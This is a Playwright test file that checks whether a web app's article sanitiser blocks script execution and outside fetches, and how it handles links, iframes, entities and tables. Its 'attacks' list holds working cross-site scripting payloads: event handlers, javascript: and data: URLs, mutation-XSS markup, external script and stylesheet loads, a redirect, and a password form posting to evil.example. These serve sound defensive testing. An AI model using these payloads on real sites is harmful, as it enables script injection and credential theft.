import type { Page } from '@playwright/test';
import { expect, expectAccessible, test } from './journey.ts';
import { articleCall, articleOf } from './library.ts';
import { demoPerson, openAs, type Person } from './people.ts';

// What fades in has, on its way, colours that axe objects to.
// The policy would stop most of this too: what is left here is the sanitiser alone.
test.use({ contextOptions: { reducedMotion: 'reduce' }, bypassCSP: true });

/** Shows an article with this body, and what it asked of other hosts. */
async function read(page: Page, person: Person, contents: string): Promise<string[]> {
  const foreign: string[] = [];
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => {
      foreign.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '' });
    },
  );
  await page.route(articleCall, (route) => route.fulfill({ json: articleOf(contents) }));
  page.on('dialog', (dialog) => {
    foreign.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await openAs(page, person, '/resources/hostile');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('A hostile page');
  return foreign;
}

const body = (page: Page) => page.getByRole('main').locator('article > div').last();
const run = "document.documentElement.dataset.ran='yes'";

const attacks = {
  'a script': `<script>${run}</script><script src="https://evil.example/a.js"></script>`,
  'an onerror': `<img src="/nothing.png" onerror="${run}"><img src=x onerror=${run}>`,
  'other handlers': `<p onmouseover="${run}" onclick="${run}">a</p><details open ontoggle="${run}">b</details>`,
  'javascript addresses': `<a href="javascript:${run}">a</a><a href=" java&#10;script:${run}">b</a>`,
  'data addresses': `<a href="data:text/html,<script>${run}</script>">a</a><iframe src="data:text/html,<script>parent.${run}</script>"></iframe><img src="data:image/svg+xml,<svg/>">`,
  'an svg': `<svg onload="${run}"><a xlink:href="http://evil.example"><text>a</text></a><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#a"/></svg>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  styles: `<style>@import 'https://evil.example/s.css'; body{display:none}</style><p style="background:url(https://evil.example/b.png);position:fixed;inset:0">a</p><link rel="stylesheet" href="https://evil.example/l.css">`,
  frames: `<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="//evil.example/f"></iframe><iframe></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  forms: `<form action="https://evil.example/f"><input name="password"><button formaction="https://evil.example/b">Go</button></form>`,
  'things to fetch': `<video src="https://evil.example/v" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src="/mark.svg" srcset="https://evil.example/i.png 2x" alt=""></picture><table background="https://evil.example/t.png"><tbody><tr><td background="https://evil.example/c.png">a</td></tr></tbody></table><img src="http://evil.example/h.png"><img src="//evil.example/r.png"><img src="/\\evil.example/w.png">`,
  'a way out of the page': `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  'a mutation': `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript><p id="root" name="body">a</p>`,
};

test.describe('2.6 The body is sanitised: nothing runs and nothing is fetched from', () => {
  for (const [name, html] of Object.entries(attacks)) {
    const encoded = html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    for (const [form, contents] of [
      ['', `<p>Before</p>${html}<p>After</p>`],
      [', written as entities', `&lt;p&gt;Before&lt;/p&gt;${encoded}&lt;p&gt;After&lt;/p&gt;`],
      [', as entities within tags', `<p>Before ${encoded} After</p>`],
    ]) {
      test(`${name}${form}`, async ({ page, request }) => {
        const foreign = await read(page, await demoPerson(request, 'member'), contents as string);
        await expect(body(page)).toContainText('Before');
        await expect(body(page)).toContainText('After');
        for (const element of await body(page).locator('a, p, details').all())
          await element.dispatchEvent('click');
        await page.waitForLoadState('networkidle');
        expect(await page.evaluate(() => document.documentElement.dataset.ran)).toBeUndefined();
        expect(foreign).toEqual([]);
        await expect(page).toHaveURL('/resources/hostile');
        const left =
          'script, style, svg, math, iframe, object, embed, form, input, button, video, base, meta, link, [style], [id]';
        await expect(body(page).locator(left)).toHaveCount(0);
        await expect(body(page).locator('a[href]')).toHaveCount(0);
      });
    }
  }
});

test('2.6 Only https links are kept, and they open in a new tab', async ({ page, request, context }) => {
  const links = [
    'http://old.example',
    '//other.example',
    '/settings',
    'mailto:a@b.example',
    '#here',
    'ftp://x.example',
  ];
  const contents = `<p><a href="https://good.example/x" target="_self">good</a> ${links
    .map((address) => `<a href="${address}">${address}</a>`)
    .join(' ')}</p>`;
  await context.route('https://good.example/**', (route) => route.fulfill({ body: 'Good' }));
  await read(page, await demoPerson(request, 'member'), contents);
  await expect(body(page).locator('a[href]')).toHaveCount(1);
  for (const address of links) await expect(body(page)).toContainText(address);
  await expectAccessible(page);
  const opening = context.waitForEvent('page');
  await body(page).getByRole('link', { name: 'good' }).click();
  const opened = await opening;
  await expect(opened).toHaveURL('https://good.example/x');
  expect(await opened.evaluate(() => [opener, document.referrer])).toEqual([null, '']);
});

test('2.6 A frame over https is allowed, in a sandbox and with a name', async ({ page, request }) => {
  const contents = `<p>Watch</p><iframe src="https://player.example/1" srcdoc="<p>no</p>" onload="${run}" name="top" allow="camera"></iframe>`;
  const foreign = await read(page, await demoPerson(request, 'member'), contents);
  const frame = body(page).locator('iframe');
  await frame.scrollIntoViewIfNeeded();
  await expect.poll(() => foreign).toEqual(['https://player.example/1']);
  await expect(frame).toHaveAttribute('title', 'Embedded content');
  const sandbox = 'allow-scripts allow-same-origin allow-presentation allow-popups';
  await expect(frame).toHaveAttribute('sandbox', sandbox);
  for (const gone of ['srcdoc', 'onload', 'name', 'allow'])
    await expect(frame).not.toHaveAttribute(gone, /.*/);
  await expectAccessible(page);
});

for (const [form, contents] of [
  ['as they are', '<h1>Head</h1><p>Fish &amp; chips&nbsp;here &lt;b&gt;</p>'],
  ['doubled', '<h1>Head</h1><p>Fish &amp;amp; chips&amp;nbsp;here &amp;lt;b&amp;gt;</p>'],
  [
    'for all of it',
    '&lt;h1&gt;Head&lt;/h1&gt;&lt;p&gt;Fish &amp;amp; chips&amp;nbsp;here &amp;lt;b&amp;gt;&lt;/p&gt;',
  ],
  [
    'for all of it, doubled within',
    '&lt;h1&gt;Head&lt;/h1&gt;&lt;p&gt;Fish &amp;amp;amp; chips&amp;amp;nbsp;here &amp;amp;lt;b&amp;amp;gt;&lt;/p&gt;',
  ],
] as const) {
  test(`2.6 Entities are decoded: ${form}`, async ({ page, request }) => {
    await read(page, await demoPerson(request, 'member'), contents);
    // The page has one heading of the first rank; those of its body come below it.
    await expect(body(page).getByRole('heading', { level: 2 })).toHaveText('Head');
    expect(await body(page).locator('p').textContent()).toBe('Fish & chips\u00a0here <b>');
    await expectAccessible(page);
  });
}

test('2.6 Tables have their captions, heads and cells, and scroll within themselves', async ({
  page,
  request,
}) => {
  const table = (caption: string) =>
    `<table class="x" border="9"><caption>${caption}</caption><thead><tr><th scope="col">Gauge</th><th colspan="2">m</th></tr></thead><tbody><tr><td>Ōpārara</td><td>1</td><td>2</td></tr></tbody></table>`;
  await read(page, await demoPerson(request, 'member'), table('Heights') + table('Heights'));
  const first = page.getByRole('group', { name: 'Heights' }).first().getByRole('table', { name: 'Heights' });
  await expect(first.getByRole('columnheader')).toHaveText(['Gauge', 'm']);
  await expect(first.getByRole('columnheader').nth(1)).toHaveAttribute('colspan', '2');
  await expect(first.getByRole('cell')).toHaveText(['Ōpārara', '1', '2']);
  await expectAccessible(page);
});
